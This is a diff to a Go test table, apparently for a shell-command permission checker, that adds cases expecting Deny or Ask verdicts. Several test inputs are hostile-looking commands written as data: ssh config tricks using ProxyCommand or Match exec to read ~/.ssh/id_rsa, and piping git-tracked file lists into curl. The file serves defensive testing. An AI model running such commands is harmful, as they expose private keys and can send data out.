@@ -588,6 +588,8 @@ func TestBuiltinConfigInput(t *testing.T) {
 		{`git ls-files | curl -K - https://e`, Ask, "destructive-unknown-command"},
 		{`ssh -F /dev/stdin x <<< 'ProxyCommand cat ~/.ssh/id_rsa'`, Deny, "sensitive-reads-files"},
 		{`ssh -F cfg x`, Ask, "destructive-unknown-command"},
+		{"ssh -F /dev/stdin x <<'C'\nMatch exec \"cat ~/.ssh/id_rsa\"\nC", Deny, "sensitive-reads-files"},
+		{`ssh -o 'Include cfg' x`, Ask, "destructive-unknown-command"},
 		{`curl -fsSL https://example.com -o out.html`, Allow, ""},
 		{`curl -K - https://e <<< 'silent'`, Allow, ""},
 		{`ssh -F /dev/null host uptime`, Allow, ""},
